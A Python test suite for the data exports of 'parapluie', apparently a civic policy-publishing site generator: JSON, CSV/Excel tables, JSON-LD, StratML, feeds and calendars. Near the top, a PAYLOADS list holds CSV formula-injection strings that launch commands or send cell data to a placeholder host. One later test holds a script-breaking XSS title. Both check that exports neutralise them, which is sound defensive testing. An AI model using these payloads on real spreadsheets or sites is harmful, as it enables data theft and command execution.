"""What other programs take of the site, read back by readers that know nothing of ours."""

import csv
import io
import json
import re
import zipfile
from collections import Counter
from dataclasses import replace
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import feedparser
import jsonschema
import pytest
from conftest import Town
from icalendar import Calendar
from openpyxl import load_workbook
from parapluie.build.making import Site, build
from parapluie.exports import Exports, exports
from parapluie.exports.csv_tables import inert
from parapluie.exports.happenings import happenings
from parapluie.exports.linked_data import Linked
from parapluie.exports.records import in_html
from parapluie.meaning.graph import Graph
from parapluie.meaning.standing import Standings
from parapluie.model import Content, Entry
from parapluie.site.publication import Publication, identifier, permanent
from parapluie.source.content_files import Roots
from parapluie.source.options import Options, read_options
from parapluie.source.reading import read
from parapluie.vocabulary.dates import PartialDate
from rdflib import RDF, Literal, URIRef
from rdflib import Graph as Triples
from site_tools import (
    DAY,
    DEMONSTRATION_DAY,
    OTHER_WORDS,
    ROOT,
    core_arguments,
    is_data,
    parse,
)

ADDRESS = "https://bourg.exemple.invalid/politiques/"
SKOS = "http://www.w3.org/2004/02/skos/core#"
SCHEMA = "https://schema.org/"
DCAT = "http://www.w3.org/ns/dcat#"
DCTERMS = "http://purl.org/dc/terms/"

# What spreadsheets have been made to compute: OWASP, CSV injection, and what papers on it list.
PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://mal.exemple.invalid/?v="&A1,"Cliquez")',
    '=IMPORTXML(CONCAT("https://mal.exemple.invalid?v=",A1),"//a")',
    '=WEBSERVICE("https://mal.exemple.invalid/"&A1)',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "+1+1",
    "+cmd|' /C notepad'!A1",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1\uff0b1",
    "\uff20SUM(A1)",
)


def publication_of(folder: Path, **changes: Any) -> Publication:
    roots, options = core_arguments(folder)
    options = replace(options, site_url=ADDRESS, **changes)
    content, _ = read(roots, options.vocabulary)
    return Publication(Graph(content, options.vocabulary), content, options)


@pytest.fixture(scope="module", params=["demonstration", "other words"])
def publication(request: pytest.FixtureRequest) -> Publication:
    if request.param == "demonstration":
        return publication_of(ROOT, today=DEMONSTRATION_DAY, licence="CC-BY-4.0")
    return publication_of(OTHER_WORDS)


@pytest.fixture(scope="module")
def made(publication: Publication) -> Exports:
    return exports(publication)


@pytest.fixture(scope="module")
def files(made: Exports) -> dict[str, bytes]:
    return contents(made)


def contents(made: Exports) -> dict[str, bytes]:
    return {
        file.path: file.content.encode() if isinstance(file.content, str) else file.content
        for file in made.files
        if not isinstance(file.content, Path)
    }


def publication_with(graph: Graph, **changes: Any) -> Publication:
    return Publication(graph, Content(graph.entries), Options(today=DAY, **changes))


# --- JSON ---


@pytest.fixture(scope="module")
def whole(files: dict[str, bytes]) -> dict[str, Any]:
    found: dict[str, Any] = json.loads(files["donnees/parapluie.json"])
    return found


def test_the_whole_graph_is_in_one_file(publication: Publication, whole: dict[str, Any]) -> None:
    graph = publication.graph
    shown = {key for entry in publication.entries for key in [identifier(entry.key)]}
    assert [entry["id"] for entry in whole["entrees"]] == [
        identifier(entry.key) for entry in publication.entries
    ]
    assert len(shown) == len(publication.entries) > 30
    links = [link for entry in whole["entrees"] for link in entry["liens"]]
    assert len(links) == sum(len(graph.out(entry)) for entry in graph.entries) > 30
    assert {link["entree"] for link in links} <= shown


def test_every_json_file_follows_the_schema_published_beside_it(files: dict[str, bytes]) -> None:
    schema = json.loads(files["donnees/parapluie.schema.json"])
    jsonschema.Draft202012Validator.check_schema(schema)
    validator = jsonschema.Draft202012Validator(schema)
    whole = json.loads(files["donnees/parapluie.json"])
    assert [error.message for error in validator.iter_errors(whole)] == []
    for path, content in files.items():
        if path.startswith("id/") and path.endswith(".json"):
            assert not list(validator.iter_errors(json.loads(content))), path


def test_the_schema_refuses_what_it_does_not_describe(files: dict[str, bytes]) -> None:
    validator = jsonschema.Draft202012Validator(json.loads(files["donnees/parapluie.schema.json"]))
    whole = json.loads(files["donnees/parapluie.json"])
    entry = next(e for e in whole["entrees"] if e["type"] == "action")
    entry["champs"]["statut"] = "perdue"
    assert not validator.is_valid(whole)
    entry["champs"]["statut"] = "realisee"
    entry["inconnue"] = 1
    assert not validator.is_valid(whole)


def test_the_file_of_an_entry_holds_it_and_who_links_to_it(
    publication: Publication, files: dict[str, bytes], whole: dict[str, Any]
) -> None:
    for entry, told in zip(publication.entries, whole["entrees"], strict=True):
        alone = json.loads(files[f"{permanent(entry.key)}.json"])
        assert alone["entree"] == told
        assert len(alone["liens_recus"]) == len(publication.graph.into(entry))


def test_a_name_goes_out_only_with_consent(town: Town) -> None:
    graph = town("""\
=== recit/pont.md
---
titre: Le pont
citations:
  - {texte: On se voit., qui: une voisine, nom: Marie Secrète, consentement: non}
  - {texte: On se parle., nom: Jeanne Publique, consentement: oui}
  - {texte: On rit., nom: Paul Inconnu}
---
""")
    said = b"".join(contents(exports(publication_with(graph))).values())
    assert b"Jeanne Publique" in said
    assert b"Marie Secr" not in said
    assert b"Paul Inconnu" not in said


# --- Tables ---


def rows_of(content: bytes) -> list[dict[str, str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_a_table_of_each_kind_has_a_row_for_each_entry(
    publication: Publication, files: dict[str, bytes]
) -> None:
    for kind, entries in publication.by_kind:
        rows = rows_of(files[f"donnees/tableaux/{kind.key}.csv"])
        assert [row["id"] for row in rows] == [identifier(entry.key) for entry in entries]
        assert [row["titre"].lstrip("'") for row in rows] == [entry.title for entry in entries]
    links = rows_of(files["donnees/tableaux/liens.csv"])
    assert len(links) == len(publication.links)


def test_the_dictionary_explains_every_column(files: dict[str, bytes]) -> None:
    explained = {
        (row["tableau"], row["colonne"])
        for row in rows_of(files["donnees/tableaux/dictionnaire.csv"])
        if row["libelle"] and row["explication"]
    }
    for path, content in files.items():
        table = path.removeprefix("donnees/tableaux/").removesuffix(".csv")
        if path.endswith(".csv") and table != "dictionnaire":
            head = content.decode("utf-8-sig").split("\r\n", 1)[0].split(";")
            assert {(table, column) for column in head} <= explained, table


def test_the_workbook_holds_the_same_tables(files: dict[str, bytes], made: Exports) -> None:
    book = load_workbook(io.BytesIO(files["donnees/parapluie.xlsx"]))
    assert len(book.sheetnames) == 1 + len(made.tables)
    for table, sheet in zip(made.tables, book.worksheets[1:], strict=True):
        rows = list(sheet.iter_rows(values_only=True))
        # What may be added up is a number there.
        numbers = [name in table.numbers for name in table.columns]
        assert all(
            cell is None or isinstance(cell, int | float) is is_number
            for row in rows[1:]
            for cell, is_number in zip(row, numbers, strict=True)
        )
        found = [
            tuple(
                "" if cell is None else str(cell).replace(".", ",") if is_number else cell
                for cell, is_number in zip(row, numbers, strict=True)
            )
            for row in rows
        ]
        assert found[0] == table.columns
        cut = [tuple(cell[:32_767].replace("\r", "") for cell in row) for row in table.rows]
        assert found[1:] == cut
        assert {c.data_type for row in sheet.iter_rows() for c in row} <= {"s", "n", "inlineStr"}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_inert_in_both_sorts_of_table(payload: str) -> None:
    assert inert(payload).startswith("'")
    from parapluie.exports.csv_tables import Table
    from parapluie.exports.excel import workbook

    table = Table("action", "Actions", ("titre",), ((payload,),))
    empty = Publication(Graph(Content(()), Options().vocabulary), Content(()), Options())
    book = load_workbook(io.BytesIO(workbook(empty, [table], "")))
    cell = book.worksheets[1]["A2"]
    assert cell.data_type != "f"
    assert str(cell.value).strip() == payload.replace("\r", "").strip()


def test_numbers_and_words_are_left_as_they_are() -> None:
    for cell in ("-5", "+3,5", "-12 %", "Eau", "a=b", "", "5 - 3", "« = »"):
        assert inert(cell) == cell


def test_hostile_titles_reach_the_tables_as_text(town: Town) -> None:
    titles = [payload for payload in PAYLOADS if payload == payload.strip()]
    graph = town(
        "\n".join(
            f"=== actions/a{number}.md\n---\ntitre: {json.dumps(title)}\n---"
            for number, title in enumerate(titles)
        )
    )
    found = contents(exports(publication_with(graph)))
    rows = rows_of(found["donnees/tableaux/action.csv"])
    assert sorted(row["titre"] for row in rows) == sorted(f"'{title}" for title in titles)


CELLS = """\
=== recit/pont.md
---
titre: Le pont
faits:
  - {libelle: Portée, valeur: [{valeur: 12 m, source: plan}, 14 m]}
sources: [{cle: plan, titre: Plan, date: 2023-02}]
verifie_le: 2026-10
citations:
  - {texte: On se voit., qui: une voisine, nom: Marie Secrète, consentement: non}
  - {texte: On se parle., nom: Jeanne Publique, consentement: oui}
---
Un texte.

## Texte adopté

Des mots adoptés.
=== groupes/aines.md
---
titre: Personnes aînées
aussi_nomme: [aînés, âge d’or]
---
=== actions/arbre.md
---
titre: Un arbre
annonce: 1 200
---
=== actions/banc.md
---
titre: Un banc
statut: en-cours
periode: 2025/..
groupes: aines
annonce: {action: 3, activite: 2}
---
Pour les [[aines]].
"""


def test_each_sort_of_value_has_its_words_in_a_cell(town: Town) -> None:
    publication = publication_with(town(CELLS), site_url=ADDRESS)
    found = contents(exports(publication))
    assert filled(found["donnees/tableaux/chapitre.csv"]) == [
        {
            "id": "chapitre/pont",
            "adresse": f"{ADDRESS}recit/pont.html",
            "sous_type": "chapitre",
            "titre": "Le pont",
            "verifie_le": "2026-10",
            "faits": "Portée : 12 m | 14 m",
            "sources": "plan : Plan : 2023-02",
            # A name without consent stays here; what was said does not.
            "citations": "On se voit. : une voisine | On se parle. : Jeanne Publique",
            "texte": "Un texte.\n\n\n\n\n",
            "texte_adopte": "Des mots adoptés.",
        }
    ]
    tree, bench = filled(found["donnees/tableaux/action.csv"])
    assert tree["annonce"] == "1200"
    assert bench == {
        "id": "action/banc",
        "adresse": f"{ADDRESS}actions/banc.html",
        "sous_type": "action",
        "titre": "Un banc",
        "statut": "en-cours",
        "periode": "2025/..",
        "annonce": "action : 3 | activite : 2",
        "groupes": "groupe/aines",
        "texte": "Pour les [[aines]].\n",
    }
    (group,) = filled(found["donnees/tableaux/groupe.csv"])
    assert group["aussi_nomme"] == "aînés | âge d’or"
    assert found["donnees/tableaux/liens.csv"].decode("utf-8-sig") == (
        "de;type;verbe;vers;note;parce_que;depuis;jusqu_a;preuve;appui\r\n"
        "action/banc;groupes;s’adresse à;groupe/aines;;;;;;\r\n"
        "action/banc;mention;mentionne;groupe/aines;Pour les [[aines]].;;;;;\r\n"
    )
    said = found["donnees/tableaux/dictionnaire.csv"].decode().split("\r\n")
    assert (
        "action;statut;Statut;Où l’on en est.;"
        "a-venir, en-cours, en-continu, en-attente, "
        "en-pause, realisee, reportee, abandonnee, non-retenue, remplacee, fusionnee"
    ) in said
    assert [row for row in said if row.startswith("liens;type;")] == [
        "liens;type;Lien;Le type de lien.;"
    ]


def filled(content: bytes) -> list[dict[str, str]]:
    return [{key: cell for key, cell in row.items() if cell} for row in rows_of(content)]


# --- Linked data ---


def triples(files: dict[str, bytes], path: str) -> Triples:
    return Triples().parse(data=files[path].decode(), format="json-ld", publicID=ADDRESS + path)


@pytest.fixture(scope="module")
def linked(files: dict[str, bytes]) -> Triples:
    return triples(files, "donnees/parapluie.jsonld")


def node(entry: Entry) -> URIRef:
    return URIRef(ADDRESS + permanent(entry.key))


def test_ideas_are_concepts_of_their_scheme(publication: Publication, linked: Triples) -> None:
    concepts = set(linked.subjects(RDF.type, URIRef(f"{SKOS}Concept")))
    ideas = [e for kind in ("principe", "theme", "groupe") for e in publication.graph.of(kind)]
    items = [e for e in publication.entries if e.kind.key == "reference"]
    assert concepts == {node(entry) for entry in (*ideas, *items)}
    schemed = set(linked.subjects(URIRef(f"{SKOS}inScheme")))
    assert schemed == {node(entry) for entry in ideas}
    broader = {
        (node(link.origin), node(link.target))
        for link in publication.links
        if link.type.key == "parent"
    }
    assert set(linked.subject_objects(URIRef(f"{SKOS}broader"))) == broader
    for entry in ideas:
        assert linked.value(node(entry), URIRef(f"{SKOS}prefLabel")) == Literal(entry.title, "fr")


def test_every_action_is_an_action_and_every_entry_a_node(
    publication: Publication, linked: Triples
) -> None:
    actions = set(linked.subjects(RDF.type, URIRef(f"{SCHEMA}Action")))
    assert actions == {node(entry) for entry in publication.graph.of("action")}
    told = {str(one) for one in linked.objects(None, URIRef(f"{DCTERMS}identifier"))}
    assert told == {identifier(entry.key) for entry in publication.entries}


def test_correspondences_lead_to_the_identifiers_of_the_united_nations(
    publication: Publication, linked: Triples
) -> None:
    def wanted(item: Entry) -> URIRef:
        framework, _, number = item.id.partition(":")
        if framework == "odd":
            return URIRef(f"http://metadata.un.org/sdg/{number}")
        return node(item)

    expected = {
        (node(link.origin), wanted(link.target))
        for link in publication.links
        if link.type.key == "referentiels"
    }
    assert expected
    assert set(linked.subject_objects(URIRef(f"{SKOS}relatedMatch"))) == expected


TEXTS = """\
=== politiques/adoptee.md
---
titre: Adoptée par une date
adoption: 2023-02-06
statut: en-vigueur
---
=== politiques/resolue.md
---
titre: Adoptée par une résolution
---
=== politiques/en-route.md
---
titre: Pas encore
adoption: 2031-05
statut: en-preparation
---
=== politiques/sans-date.md
---
titre: Sans date
---
=== decisions/r-12.md
---
titre: Le conseil adopte
numero: 2023-02-12
quand: 2023-02-06
adopte: [resolue]
---
"""


def test_a_text_is_law_once_adopted_with_its_day_and_its_resolution(town: Town) -> None:
    graph = town(TEXTS)
    files = contents(exports(publication_with(graph, site_url=ADDRESS)))
    found = triples(files, "donnees/parapluie.jsonld")
    laws = set(found.subjects(RDF.type, URIRef(f"{SCHEMA}Legislation")))
    base = f"{ADDRESS}id/politique/"
    assert laws == {URIRef(f"{base}adoptee"), URIRef(f"{base}resolue")}
    days = {str(o) for law in laws for o in found.objects(law, URIRef(f"{SCHEMA}legislationDate"))}
    assert days == {"2023-02-06"}
    number = found.value(URIRef(f"{base}resolue"), URIRef(f"{SCHEMA}legislationIdentifier"))
    assert str(number) == "2023-02-12"


def test_a_title_that_closes_a_script_closes_nothing(town: Town) -> None:
    title = "</script><script>alert(1)</script><!-- & '\""
    graph = town(f"=== actions/a.md\n---\ntitre: {json.dumps(title)}\n---\n")
    publication = publication_with(graph)
    entry = graph.of("action")[0]
    written = in_html(Linked(publication).page(entry, "actions/a.html"))
    assert not set("<>&") & set(written)
    assert json.loads(written)["schema:name"] == title


def test_without_an_address_names_are_relative_to_the_file(town: Town) -> None:
    graph = town("=== principes/eau.md\n---\ntitre: Eau\n---\n")
    files = contents(exports(publication_with(graph)))
    found = Triples().parse(
        data=files["donnees/parapluie.jsonld"].decode(),
        format="json-ld",
        publicID="https://ici.exemple.invalid/sous/donnees/parapluie.jsonld",
    )
    wanted = URIRef("https://ici.exemple.invalid/sous/id/principe/eau")
    assert (wanted, RDF.type, URIRef(f"{SKOS}Concept")) in found


def test_the_catalogue_describes_every_file_as_it_is(
    publication: Publication, files: dict[str, bytes], made: Exports
) -> None:
    found = triples(files, "donnees/catalogue.jsonld")
    (data_set,) = found.subjects(RDF.type, URIRef(f"{DCAT}Dataset"))
    told = set(found.objects(data_set, URIRef(f"{DCAT}distribution")))
    assert told == {URIRef(ADDRESS + each.path) for each in made.distributions}
    for each in made.distributions:
        size = found.value(URIRef(ADDRESS + each.path), URIRef(f"{DCAT}byteSize"))
        assert int(str(size)) == len(files[each.path])
    licence = found.value(data_set, URIRef(f"{DCTERMS}license"))
    assert str(licence or "") == publication.licence[1]


# --- StratML: the structure of ISO 17469-1, in the order of its schema ---

STRATML = "{urn:ISO:std:iso:17469:tech:xsd:stratml_core}"
# Each element with what it may hold, in order: « ? » at most one, « * » any number, « + » one or
# more, else exactly one.
HELD = {
    "StrategicPlan": "Name Description? OtherInformation? StrategicPlanCore "
    "AdministrativeInformation?",
    "StrategicPlanCore": "Organization* Vision? Mission? Value* Goal+",
    "Organization": "Name? Acronym? Identifier? Description? Stakeholder*",
    "Vision": "Description? Identifier?",
    "Value": "Name? Description?",
    "Goal": "Name Description Identifier? SequenceIndicator? Stakeholder* OtherInformation? "
    "Objective*",
    "Objective": "Name? Description? Identifier? SequenceIndicator? Stakeholder* OtherInformation?",
    "Stakeholder": "Name Description?",
    "AdministrativeInformation": "StartDate? EndDate? PublicationDate? Source? Submitter?",
}


def faults(element: ElementTree.Element) -> list[str]:
    name = element.tag.removeprefix(STRATML)
    inside = " ".join(child.tag.removeprefix(STRATML) for child in element)
    if name not in HELD:
        return [] if not inside and element.text else [f"{name}: {inside or 'empty'}"]
    parts = (re.fullmatch(r"(\w+)([?*+]?)", part) for part in HELD[name].split())
    pattern = "".join(rf"(?:{part[1]} ){part[2]}" for part in parts if part)
    found = [] if re.fullmatch(pattern, f"{inside} ".lstrip()) else [f"{name}: {inside}"]
    return [*found, *(fault for child in element for fault in faults(child))]


def test_the_strategic_plan_has_the_structure_of_the_standard(
    publication: Publication, files: dict[str, bytes]
) -> None:
    plan = ElementTree.fromstring(files["donnees/stratml.xml"])
    assert faults(plan) == []
    graph = publication.graph
    counts = Counter(element.tag.removeprefix(STRATML) for element in plan.iter())
    assert counts["Goal"] == len(graph.of("politique"))
    assert counts["Objective"] == len(graph.of("objectif"))
    assert counts["Value"] == len(graph.of("principe"))
    stakes = [
        link
        for link in publication.links
        if link.type.key in ("groupes", "responsable", "partenaires")
        and link.origin.kind.key in ("politique", "objectif")
    ]
    assert counts["Stakeholder"] == len(stakes)
    names = [element.text or "" for element in plan.iter(f"{STRATML}Identifier")]
    assert len(names) == len(set(names))
    assert all(re.fullmatch(r"[a-z_][a-z0-9._-]*", name) for name in names)


# --- Feeds ---


def past(publication: Publication, entries: list[Entry]) -> list[tuple[str, str]]:
    today = publication.options.today
    return [
        (each.title, each.day.isoformat())
        for entry in entries
        for each in happenings(entry)
        if each.day <= today
    ]


def test_the_feed_of_everything_tells_what_the_content_dates(
    publication: Publication, files: dict[str, bytes]
) -> None:
    feed = feedparser.parse(files["donnees/nouveautes.atom"])
    assert not feed.bozo
    assert feed.version == "atom10"
    told = [(item.title, item.updated[:10]) for item in feed.entries]
    wanted = past(publication, list(publication.entries))
    assert len(told) == min(200, len(wanted))
    assert not Counter(told) - Counter(wanted)
    days = [day for _, day in told]
    assert days == sorted(days, reverse=True)
    assert feed.feed.updated[:10] == max(day for _, day in wanted)
    names = [item.id for item in feed.entries]
    assert len(names) == len(set(names))
    assert all(item.link.startswith(ADDRESS) for item in feed.entries)


def test_an_entry_has_a_feed_of_what_depends_on_it(
    publication: Publication, files: dict[str, bytes]
) -> None:
    graph = publication.graph
    standings = Standings(graph)
    for kind in ("politique", "principe"):
        for head in graph.of(kind):
            # What does not hold at its date is no news of it.
            members = [head] + [
                d.origin
                for d in graph.dependents(head)
                if head in standings.reached(d.origin, kind)
            ]
            wanted = past(publication, members)
            content = files.get(f"{permanent(head.key)}.atom")
            told = feedparser.parse(content).entries if content else []
            assert len(told) == min(200, len(wanted)), head.title
    for kind, key in (("groupe", "groupes"), ("acteur", "responsable")):
        for head in graph.of(kind):
            origins = {link.origin.key: link.origin for link in graph.into(head, key)}
            wanted = past(publication, [head, *origins.values()])
            content = files.get(f"{permanent(head.key)}.atom")
            told = feedparser.parse(content).entries if content else []
            assert len(told) == min(200, len(wanted)), head.title


def test_what_is_to_come_is_no_news(town: Town) -> None:
    graph = town("""\
=== actions/parc.md
---
titre: Parc
etapes:
  - {quand: 2030-05-01, titre: On plante}
  - {quand: 2031-05-01, titre: On récolte}
---
""")
    files = contents(exports(publication_with(graph)))
    feed = feedparser.parse(files["donnees/nouveautes.atom"])
    assert [item.title.replace("\u00a0", " ") for item in feed.entries] == ["Parc : On plante"]
    assert feed.entries[0].id.startswith("urn:uuid:")


# --- Calendars ---


def is_day(when: PartialDate) -> bool:
    return when.precision == "day" and not when.approximate


def test_the_calendar_holds_every_day_that_the_content_knows(
    publication: Publication, files: dict[str, bytes]
) -> None:
    expected: Counter[str] = Counter()
    for entry in publication.entries:
        held = [entry.fields[key] for key in ("quand",) if entry.fields.get(key)]
        held += [step.quand for step in entry.fields.get("etapes") or ()]
        for period in held:
            if period.start and is_day(period.start) and (not period.end or is_day(period.end)):
                expected[period.start.first.isoformat()] += 1
        period = entry.fields.get("periode")
        if period and period.end and period.end != period.start and is_day(period.end):
            expected[period.end.first.isoformat()] += 1
        opening = entry.fields.get("participer")
        if opening and is_day(opening.jusqu_au):
            expected[opening.jusqu_au.first.isoformat()] += 1
    calendar = Calendar.from_ical(files["donnees/calendrier.ics"])
    events = calendar.walk("VEVENT")
    assert Counter(event.start.isoformat() for event in events) == expected
    assert expected
    names = [str(event["UID"]) for event in events]
    assert len(names) == len(set(names))


EVENING = """\
=== acteurs/loisirs.md
---
titre: Service des loisirs
---
=== demarche/soiree.md
---
titre: "Une soirée; des idées, du café \\\\o/ et une phrase à plier deux fois, é é é é é é"
en_bref: |-
  Deux lignes,
  une virgule.
genre: consultation
quand: 2031-03-01/2031-03-02
responsable: loisirs
participer:
  jusqu_au: 2031-02-20
  telephone: 418 555-0100
---
=== actions/ruelle.md
---
titre: Ruelle
periode: 2031-01/2031-06-30
responsable: loisirs
---
=== demarche/un-mois.md
---
titre: Tout un mois
quand: 2031-04
responsable: loisirs
---
"""


def test_a_service_has_its_calendar_and_texts_come_out_as_written(town: Town) -> None:
    graph = town(EVENING)
    files = contents(exports(publication_with(graph, site_url=ADDRESS)))
    raw = files["id/acteur/loisirs.ics"]
    assert all(len(line) <= 75 for line in raw.split(b"\r\n"))
    assert b"\n" not in raw.replace(b"\r\n", b"")
    events = Calendar.from_ical(raw).walk("VEVENT")
    last, evening, end = events
    assert str(end["SUMMARY"]).replace("\u00a0", " ") == "Ruelle : fin"
    assert str(end.start) == "2031-06-30"
    title = graph.get(("activite", "soiree")).title  # type: ignore[union-attr]
    assert str(evening["SUMMARY"]) == title
    assert str(evening["DESCRIPTION"]) == "Deux lignes,\nune virgule."
    assert (str(evening.start), str(evening.end)) == ("2031-03-01", "2031-03-03")
    assert str(last.start) == "2031-02-20"
    assert str(evening["URL"]) == f"{ADDRESS}demarche/soiree.html"


# --- Whatever the format ---


def test_two_builds_give_the_same_bytes(publication: Publication, files: dict[str, bytes]) -> None:
    again = contents(exports(publication))
    assert {path for path in files if files[path] != again[path]} == set()
    with zipfile.ZipFile(io.BytesIO(files["donnees/parapluie.xlsx"])) as book:
        assert {item.date_time for item in book.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert b"<dcterms:modified" in book.read("docProps/core.xml")
        assert b"1980-01-01" in book.read("docProps/core.xml")


def test_a_form_that_a_town_does_not_want_is_not_made(town: Town) -> None:
    graph = town(EVENING)
    only = exports(publication_with(graph, exports=("csv",)))
    assert {file.path.rpartition(".")[2] for file in only.files} == {"csv", "jsonld"}
    assert exports(publication_with(graph, exports=())).files == ()


@pytest.mark.parametrize(
    ("written", "said"),
    [
        ({"exports": ["json", "exel"]}, "« exel » n’est pas une forme de données"),
        ({"licence": "CC-BY-4"}, "vouliez-vous dire « CC-BY-4.0 »"),
        ({"licence": "http://exemple.invalid/"}, "n’est pas une licence connue"),
    ],
)
def test_an_option_that_means_nothing_is_told(written: dict[str, Any], said: str) -> None:
    _, problems = read_options(written, site_name="Ici", today=DAY, directory_urls=False)
    assert [problem.code for problem in problems] == ["P401"]
    assert said in str(problems[0])


# --- Permanent addresses ---


@pytest.fixture(scope="module")
def site() -> Site:
    roots, options = core_arguments(OTHER_WORDS)
    return build(roots, replace(options, site_url=ADDRESS))


def test_every_entry_has_a_permanent_address_that_leads_to_its_page(site: Site) -> None:
    made = {file.path: file.content for file in site.files}
    publication = publication_of(OTHER_WORDS)
    for entry in publication.entries:
        page = str(made[f"{permanent(entry.key)}/index.html"])
        (target,) = re.findall(r'url=([^"]+)"', page)
        assert target.endswith(publication.page(entry))
        assert target.startswith("../" * (permanent(entry.key).count("/") + 1))


def test_every_page_says_in_linked_data_what_it_is_of(site: Site) -> None:
    publication = publication_of(OTHER_WORDS)
    entries = {publication.page(e): e for e in publication.entries if not e.anchor}
    made = [file for file in site.files if file.path.endswith(".md")]
    assert len(made) > 50
    told = 0
    for file in made:
        (said,) = (e for e in parse(str(file.content)).all("script") if is_data(e))
        data = "".join(map(str, said.children))
        address = ADDRESS + publication.page_at(file.path)
        found = Triples().parse(data=data, format="json-ld", publicID=address)
        entry = entries.get(publication.page_at(file.path))
        if entry is not None and not (entry.kind.key == "page" and file.path.endswith("index.md")):
            assert found.value(node(entry), RDF.type) is not None, file.path
            told += 1
        assert found.value(None, RDF.type) is not None or len(found) > 3, file.path
    assert told > 20


def test_a_former_id_keeps_its_permanent_address(tmp_path: Path) -> None:
    (tmp_path / "principes").mkdir()
    (tmp_path / "principes" / "eau.md").write_text(
        "---\ntitre: Eau\nanciens_ids: [riviere]\n---\n", "utf-8"
    )
    made = build(Roots(tmp_path, tmp_path / "images"), Options(today=DAY)).files
    pages = {file.path: str(file.content) for file in made}
    for path in ("id/principe/riviere/index.html", "id/principe/eau/index.html"):
        assert "../../../principes/eau.html" in pages[path]
